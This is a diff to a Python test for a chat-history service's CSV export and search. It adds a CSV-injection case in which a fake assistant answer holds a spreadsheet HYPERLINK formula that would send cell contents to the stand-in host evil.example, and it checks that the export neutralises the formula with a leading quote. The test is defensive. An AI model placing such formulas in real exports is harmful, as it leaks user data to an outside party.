@@ -135,7 +135,10 @@ def test_pages_stay_correct_while_events_arrive(agent: dict, order: str) -> None
 def test_csv_export_and_search(agent: dict, admin: HubApi) -> None:
     session = f"x-{uuid.uuid4().hex[:8]}"
     odd = "100% of rows_with 'quotes' \\ and 漢字 and emoji 🧪"
-    batch = [_event(session, 1, "user", odd), _event(session, 2, "assistant", "plain answer")]
+    # A model's answer that a spreadsheet would run as a formula (CSV injection).
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    batch = [_event(session, 1, "user", odd), _event(session, 2, "assistant", "plain answer"),
+             _event(session, 4, "assistant", formula)]  # fmt: skip
     agent["ingest"].post("history/ingest", json={"events": batch})
     client, user = agent["client"], agent["user"]
 
@@ -144,8 +147,9 @@ def test_csv_export_and_search(agent: dict, admin: HubApi) -> None:
     )
     assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(resp.text)))
-    assert [r["uuid"] for r in rows] == [f"{session}-1", f"{session}-2"]
+    assert [r["uuid"] for r in rows] == [f"{session}-1", f"{session}-2", f"{session}-4"]
     assert rows[0]["text"] == odd and rows[0]["agent"] == "scribe" and rows[0]["owner"] == user
+    assert rows[2]["text"] == "'" + formula  # opens as text, not as a formula
 
     # Search: LIKE metacharacters and quotes are literal; the owner finds their own text.
     for q in ("100% of rows_with", "'quotes' \\", "漢字", "🧪"):
